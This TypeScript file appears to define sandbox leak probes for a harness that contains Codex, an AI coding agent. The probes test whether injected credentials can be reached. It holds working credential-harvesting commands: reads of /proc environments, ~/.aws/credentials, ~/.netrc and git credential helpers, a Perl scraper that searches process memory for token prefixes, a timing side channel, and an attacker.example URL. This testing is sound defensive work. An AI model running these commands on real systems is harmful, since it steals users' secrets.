/**
 * Looks where a credential could be: environments, files, git, answers, errors, timing. The output is
 * searched outside.
 */
import { model, refs } from '../attacks/attack.ts';
import { script, type Group, type Probe } from '../probe.ts';

const nothing = ['nothing secret'] as const;

export const credentials: Group = {
  name: 'credentials',
  about: 'stealing what the handler adds outside',
  probes: (): readonly Probe[] => {
    const search = (id: string, attack: string, source: string, more: Partial<Probe> = {}) =>
      script(id, attack, 'bash', `${source}\necho looked`, nothing, { searched: true, ...more });
    const chatty = `curl -sv -m 10`;
    return [
      search('env', 'its own environment', 'env | grep . && export -p'),
      search(
        'environ',
        'every process’s environment',
        `cat /proc/*/environ 2>/dev/null | tr '\\0' '\\n' | grep .`,
      ),
      search(
        'cmdline',
        'every process’s command line',
        `cat /proc/*/cmdline 2>/dev/null | tr '\\0' ' ' | grep .`,
      ),
      search(
        'codex-home',
        'Codex’s folder',
        `cd /home/codex && find . -type f -size -2000k -exec cat {} + | head -c 900000 | grep -a .`,
      ),
      search(
        'run-folder',
        'jobs and outputs of the task',
        `find /run/airlock -type f -not -path '*/probes/*' -exec cat {} + | head -c 900000 | grep -a .`,
      ),
      search(
        'git-config',
        'git’s configuration',
        'cd /workspace/repo && git config --list --show-origin && cat .git/config && git remote -v',
      ),
      search(
        'git-credential',
        'git’s credential helpers',
        `printf 'protocol=https\\nhost=github.com\\n\\n' | git credential fill 2>&1 | grep .`,
      ),
      search(
        'git-trace',
        'what git sends and gets, traced',
        `cd /workspace/repo && GIT_TRACE_CURL=1 GIT_CURL_VERBOSE=1 git fetch origin 2>&1 | grep -i http`,
      ),
      search(
        'netrc',
        'forgotten files',
        `ls -A ~ && cat ~/.netrc ~/.git-credentials ~/.npmrc ~/.aws/credentials ~/.docker/config.json ~/.config/gh/hosts.yml 2>&1 | grep .`,
      ),
      search(
        'answer-github',
        'headers and body of an allowed answer of GitHub',
        `${chatty} 'https://github.com${refs}' 2>&1 | grep -ai http`,
      ),
      search(
        'answer-openai',
        'headers and body of a refusal of OpenAI’s own',
        `${chatty} -H 'content-type: application/json' -d '{"model":"${model}","stream":true,"store":false,"input":[],"text":{"format":{"type":"json_schema","name":"x","strict":true,"schema":{"type":"object"}}}}' https://api.openai.com/v1/responses 2>&1 | grep -i http`,
        { reachesUpstream: true, lane: 'openai' },
      ),
      search(
        'echo',
        'an answer that repeats the request',
        `for m in TRACE OPTIONS HEAD; do curl -sv -m 5 -X $m 'https://github.com${refs}' 2>&1; done | grep -ai http`,
      ),
      search(
        'errors',
        'the texts of a hundred refusals',
        `for n in $(seq 25); do for u in https://github.com/x/y https://api.openai.com/v1/files https://attacker.example/ https://canary.airlock.invalid/x; do echo url = $u; done; done | curl -sv -m 20 --config - 2>&1 | grep -i airlock`,
      ),
      script(
        'authority-key',
        'the private key of the certificate authority, or any other',
        'bash',
        // Its own must be found.
        `echo '-----BEGIN PRIVATE KEY-----' > /tmp/own-key; grep -rlI 'BEGIN.* PRIVATE KEY' /etc /run /tmp /home /workspace /opt/airlock 2>/dev/null | grep -v /probes/ | sort | tr '\\n' ' '`,
        ['/tmp/own-key'],
      ),
      search(
        'memory',
        'the memory of every process that can be opened',
        // Its own child's must be found.
        `found=$(perl -e 'my $own = "ghp_" . "own" x 12; my $child = fork // die; if (!$child) { sleep 60; exit } for my $p (glob("/proc/[0-9]*")) { next if $p =~ /\\/(self|$$)$/; open(my $maps, "<", "$p/maps") or next; open(my $mem, "<:raw", "$p/mem") or next; my $left = 64_000_000; while (<$maps>) { next unless /^([0-9a-f]+)-([0-9a-f]+) rw/; my ($a, $b) = (hex $1, hex $2); my $n = $b - $a; next if $n > $left; $left -= $n; sysseek($mem, $a, 0); sysread($mem, my $text, $n); while ($text =~ /((?:sk-|ghs_|ghp_|gho_|Bearer |Basic |x-access-token:|x-airlock-token)[\\x21-\\x7e]{4,200})/g) { print "$1\\n" } } } kill 9, $child' | sort -u | head -n 2000); grep -q ghp_ownown <<<"$found" || exit 1; echo "$found"`,
        { timeoutMs: 40_000, lane: 'memory' },
      ),
      script(
        'timing',
        'whether a private repository exists, by the time of the refusal',
        'node',
        `const at = (times, part) => times.toSorted((a, b) => a - b)[Math.floor(times.length * part)];
const median = (times) => at(times, 0.5);
// How far apart requests of one kind are: on a busy machine more than two medians.
const spread = (times) => at(times, 0.75) - at(times, 0.25);
const ask = async (name) => {
  const from = performance.now();
  const answer = await fetch('https://github.com/acme/' + name + '/info/refs?service=git-upload-pack');
  const text = (await answer.text()).replace(name, 'NAME');
  return { ms: performance.now() - from, text };
};
const seen = { other: [], 'is-not-there': [] };
const texts = new Set();
for (let round = 0; round < 30; round++)
  for (const name of Object.keys(seen)) {
    const { ms, text } = await ask(name);
    seen[name].push(ms);
    texts.add(text);
  }
const apart = Math.abs(median(seen.other) - median(seen['is-not-there']));
const isSame = apart < Math.max(10, ...Object.values(seen).map(spread));
if (texts.size !== 1) console.log('two answers');
else console.log(isSame ? 'the same answer in the same time' : apart.toFixed(1) + ' ms apart');`,
        ['the same answer in the same time'],
      ),
    ];
  },
};
